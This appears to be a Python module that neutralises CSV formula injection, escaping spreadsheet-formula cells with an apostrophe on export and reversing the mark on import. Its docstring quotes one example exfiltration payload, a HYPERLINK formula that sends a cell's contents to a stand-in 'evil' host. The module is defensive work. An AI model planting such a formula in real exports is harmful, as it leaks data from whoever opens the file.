"""Cells a spreadsheet would run: neutralised on export, recognised on import.

Excel, LibreOffice and Google Sheets treat a cell that starts with = + - @ (or a
tab or carriage return before one) as a formula, even in a CSV, so a description
like =HYPERLINK("http://evil/?"&A1,"x") would run on the machine of whoever opens
an export. Following OWASP's CSV injection guidance, such text gets a leading
apostrophe, which spreadsheets read as "this is text". Pure Python, no Django, so
pure modules (telemetry.tracking_plan) can use it too.

The portal's own CSV exports are meant to be imported again, so the escape is
reversible: a value that already starts with an apostrophe gets a second one,
and `unescape` strips exactly one apostrophe off a cell that carries the mark.
"""

import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
_NUMBER = re.compile(r"[+-]?(\d[\d,]*)?(\.\d+)?([eE][+-]?\d+)?")


def neutralise(value):
    """The value as a spreadsheet shows it as text; anything that is not a string is left as is."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, TEXT_MARK)):
        return TEXT_MARK + value
    return value


def unescape(value: str) -> str:
    """Undo `neutralise` on a cell read back from a sheet; other cells are returned unchanged."""
    if value.startswith(TEXT_MARK) and value[1:].startswith((*FORMULA_STARTS, TEXT_MARK)):
        return value[1:]
    return value


def looks_like_formula(value) -> bool:
    """True for text a spreadsheet would evaluate; plain numbers such as -5 or +1.5 are not formulas."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    stripped = value.strip()
    return not (stripped and _NUMBER.fullmatch(stripped) and any(c.isdigit() for c in stripped))


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell; every CSV export goes through it."""

    def __init__(self, stream, *args, **kwargs):
        self._writer = csv.writer(stream, *args, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, *args, **kwargs) -> SafeWriter:
    return SafeWriter(stream, *args, **kwargs)
